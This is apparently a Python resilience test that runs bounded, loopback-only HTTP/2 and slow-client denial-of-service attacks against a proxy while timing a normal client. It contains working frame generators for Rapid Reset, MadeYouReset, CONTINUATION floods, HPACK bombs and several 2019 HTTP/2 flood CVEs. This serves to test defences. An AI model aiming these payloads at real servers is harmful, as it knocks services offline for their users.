"""Attacks of ten seconds each, while one client goes on as before: how long it waits, what the front end's memory does, and
whether it still stands.

The HTTP/2 attacks are frames made by hand, as many a second as one process can send; slow clients are slowhttptest's. All is bounded:
`CONNECTIONS` at once, `SECONDS` long, on loopback.
"""

import asyncio
import multiprocessing
import shutil
import socket
import ssl
import struct
import subprocess
import time

import hpack

SECONDS = 10
CONNECTIONS = 20
#: Requests a second of the client that does nothing wrong.
RATE = 50
#: A client that waits for longer than this has not been served.
DEADLINE = 10

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(10)
END_STREAM, END_HEADERS, ACK = 0x1, 0x4, 0x1


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def head(path=b"/", method=b"GET", more=()):
    fields = [(b":method", method), (b":scheme", b"https"), (b":authority", b"localhost"), (b":path", path), *more]
    return hpack.Encoder().encode(fields, huffman=False)


class Attack:
    """What is sent on one connection: `begin` once, then `step` again and again, with numbers of streams that grow."""

    def begin(self):
        return PREFACE + frame(SETTINGS, 0, 0)

    def step(self, stream):
        raise NotImplementedError

    #: Streams that a step uses.
    streams = 1


class Requests(Attack):
    """As many requests in one step as there are streams, each with what `behind` says of it."""

    path = b"/"

    def behind(self, stream):
        return b""

    def step(self, stream):
        block = head(self.path)
        ids = range(stream, stream + 2 * self.streams, 2)
        return b"".join(frame(HEADERS, END_STREAM | END_HEADERS, each, block) + self.behind(each) for each in ids)


class RapidReset(Requests):
    """CVE-2023-44487: requests that are taken back at once."""

    streams = 100

    def behind(self, stream):
        return frame(RST_STREAM, 0, stream, struct.pack(">I", 8))


class MadeYouReset(Requests):
    """CVE-2025-8671: requests that the server has to reset, for a window that is moved by nothing."""

    streams = 50

    def behind(self, stream):
        return frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", 0))


class ContinuationFlood(Attack):
    """CVE-2024-27316 and its kin: a head that has no end."""

    def begin(self):
        return super().begin() + frame(HEADERS, END_STREAM, 1, head())

    def step(self, stream):
        field = b"\x00" + bytes([8]) + b"x-flood-" + bytes([100]) + b"y" * 100
        return frame(CONTINUATION, 0, 1, field * 100) * 10


class EmptyContinuations(ContinuationFlood):
    """The same with nothing in it."""

    def step(self, stream):
        return frame(CONTINUATION, 0, 1) * 1000


class HpackBomb(Attack):
    """A field of four kilobytes that is said a thousand times in one byte each."""

    def step(self, stream):
        block = head(more=[(b"x-bomb", b"y" * 3900)])
        return frame(HEADERS, END_STREAM | END_HEADERS, stream, block + b"\xbe" * 2000)


class CountBomb(Attack):
    """Thousands of the shortest fields."""

    def step(self, stream):
        return frame(HEADERS, END_STREAM | END_HEADERS, stream, head(more=[(b"a", b"")]) + b"\xbe" * 15000)


class SettingsFlood(Attack):
    """CVE-2019-9515: each is to be acknowledged."""

    def step(self, stream):
        return frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535)) * 1000


class PingFlood(Attack):
    """CVE-2019-9512: each is to be answered."""

    def step(self, stream):
        return frame(PING, 0, 0, b"flooding") * 1000


class EmptyData(Attack):
    """CVE-2019-9518: a body of frames with nothing in them."""

    def begin(self):
        return super().begin() + frame(HEADERS, END_HEADERS, 1, head(method=b"POST"))

    def step(self, stream):
        return frame(DATA, 0, 1) * 1000


class PriorityFlood(Attack):
    """CVE-2019-9513: trees of priorities, turned over."""

    def step(self, stream):
        return b"".join(frame(PRIORITY, 0, stream + 2 * each, struct.pack(">IB", 0, each % 256)) for each in range(500))


class WindowCrumbs(Attack):
    """A window opened byte by byte."""

    def begin(self):
        return PREFACE + frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0)) + frame(HEADERS, END_STREAM | END_HEADERS, 1, head())

    def step(self, stream):
        return frame(WINDOW_UPDATE, 0, 1, struct.pack(">I", 1)) * 1000


class NeverReads(Requests):
    """CVE-2019-9517: answers are asked for and never taken."""

    streams = 50
    path = b"/large"


ATTACKS = {
    "rapid reset": RapidReset,
    "made you reset": MadeYouReset,
    "CONTINUATION flood": ContinuationFlood,
    "empty CONTINUATION": EmptyContinuations,
    "HPACK bomb": HpackBomb,
    "field count bomb": CountBomb,
    "SETTINGS flood": SettingsFlood,
    "PING flood": PingFlood,
    "empty DATA": EmptyData,
    "PRIORITY flood": PriorityFlood,
    "window in crumbs": WindowCrumbs,
    "never reads": NeverReads,
}
SLOW = {
    "slow heads": ["-H", "-i", "3"],
    "slow bodies": ["-B", "-i", "3", "-s", "8192"],
    "ranges": ["-R"],
    "slow reads": ["-X", "-w", "10", "-y", "20", "-n", "5", "-z", "32", "-k", "3"],
}
HANDSHAKES = "handshakes"


def attack(port, name, until, told):
    """Runs in a process of its own: as many connections as are let in, one after the other, until it is time."""
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    steps = closed = 0
    open_ = []
    kind = ATTACKS.get(name)
    while time.time() < until:
        try:
            while len(open_) < CONNECTIONS and time.time() < until:
                raw = socket.create_connection(("127.0.0.1", port), 2)
                if kind is NeverReads:
                    raw.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
                wrapped = context.wrap_socket(raw, server_hostname="localhost")
                if name == HANDSHAKES:
                    wrapped.close()
                    steps += 1
                    continue
                wrapped.settimeout(0.05)
                made = kind()
                wrapped.sendall(made.begin())
                open_.append([wrapped, made, 1, b""])
        except OSError:
            # It takes no more: what is there goes on.
            time.sleep(0.01)
        for entry in list(open_):
            wrapped, made, stream, left = entry
            try:
                left = left or made.step(stream)
                sent = wrapped.send(left)
                entry[3] = left[sent:]
                if not entry[3]:
                    entry[2] = stream + 2 * made.streams
                    steps += 1
                if kind is not NeverReads:
                    wrapped.settimeout(0)
                    try:
                        while wrapped.recv(65536):
                            pass
                        raise ConnectionError
                    except (ssl.SSLWantReadError, BlockingIOError):
                        pass
                    finally:
                        wrapped.settimeout(0.05)
            except (TimeoutError, ssl.SSLWantWriteError):
                pass
            except OSError:
                closed += 1
                open_.remove(entry)
                wrapped.close()
    told.put((steps, closed))


async def well_behaved(port, until):
    """Latencies, and how many requests were not answered with 200."""
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    latencies, failed, asked = [], 0, []

    async def ask():
        nonlocal failed
        began = time.monotonic()
        try:
            async with asyncio.timeout(DEADLINE):
                reader, writer = await asyncio.open_connection("127.0.0.1", port, ssl=context)
                writer.write(b"GET /well HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n")
                answer = await reader.read()
                writer.close()
                failed += not answer.startswith(b"HTTP/1.1 200")
        except (OSError, TimeoutError):
            failed += 1
        latencies.append(time.monotonic() - began)

    began = time.time()
    while time.time() < until:
        asked.append(asyncio.create_task(ask()))
        await asyncio.sleep(max(0, began + len(asked) / RATE - time.time()))
    await asyncio.gather(*asked)
    return sorted(latencies), failed


def percentile(sorted_values, share):
    return sorted_values[min(len(sorted_values) - 1, int(len(sorted_values) * share))]


async def serve_backend():
    """Answers at once: five bytes, or as many as are wanted of `/large`."""
    large = b"HTTP/1.1 200 OK\r\nContent-Length: 1048576\r\n\r\n" + b"x" * 1048576
    small = b"HTTP/1.1 200 OK\r\nContent-Length: 5\r\n\r\nhello"

    async def serve(reader, writer):
        try:
            while True:
                got = await reader.readuntil(b"\r\n\r\n")
                length = [line for line in got.lower().split(b"\r\n") if line.startswith(b"content-length:")]
                if length:
                    await reader.readexactly(int(length[0].split(b":")[1]))
                writer.write(large if b" /large" in got else small)
                await writer.drain()
        except (OSError, asyncio.IncompleteReadError, asyncio.LimitOverrunError):
            writer.close()

    server = await asyncio.start_server(serve, "127.0.0.1", 0, backlog=512)
    return server, server.sockets[0].getsockname()[1]


async def under(front, name, folder):
    """One attack on a front end that runs."""
    quiet, _ = await well_behaved(front.tls, time.time() + 3)
    before = front.memory()
    until = time.time() + SECONDS
    told, process, slow = multiprocessing.Queue(), None, None
    if name in SLOW:
        program = shutil.which("slowhttptest")
        if not program:
            return None
        url = f"http://127.0.0.1:{front.plain}/" + ("large" if name in ("ranges", "slow reads") else "")
        command = [program, *SLOW[name], "-c", "1000", "-r", "500", "-l", str(SECONDS), "-u", url]
        slow = subprocess.Popen(command, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, cwd=folder)
    else:
        process = multiprocessing.Process(target=attack, args=(front.tls, name, until, told))
        process.start()
    most = before

    async def watch():
        nonlocal most
        while time.time() < until:
            most = max(most, await asyncio.to_thread(front.memory))
            await asyncio.sleep(0.5)

    watching = asyncio.create_task(watch())
    loaded, failed = await well_behaved(front.tls, until)
    await watching
    steps, closed = (0, 0)
    if slow:
        slow.terminate()
        slow.wait()
    if process:
        steps, closed = await asyncio.to_thread(told.get)
        process.join()
    stands = front.process.poll() is None
    return {
        "p99 before": f"{percentile(quiet, 0.99) * 1000:.0f} ms",
        "p99": f"{percentile(loaded, 0.99) * 1000:.0f} ms",
        "times": f"{percentile(loaded, 0.99) / percentile(quiet, 0.99):.1f}",
        "failed": f"{failed} of {len(loaded)}",
        "steps": str(steps),
        "closed on it": str(closed),
        "memory MiB": f"{before / 1024:.0f} → {most / 1024:.0f}",
        "stands": "yes" if stands else "NO",
    }


async def run(front_of, names, folder):
    """Yields the name of each attack and what it did."""
    server, port = await serve_backend()
    found = {}
    for name in names:
        front = await asyncio.to_thread(front_of, port)
        try:
            found[name] = await under(front, name, folder)
        finally:
            await asyncio.to_thread(front.stop)
    server.close()
    return found


def all_names():
    return [*ATTACKS, HANDSHAKES, *SLOW]
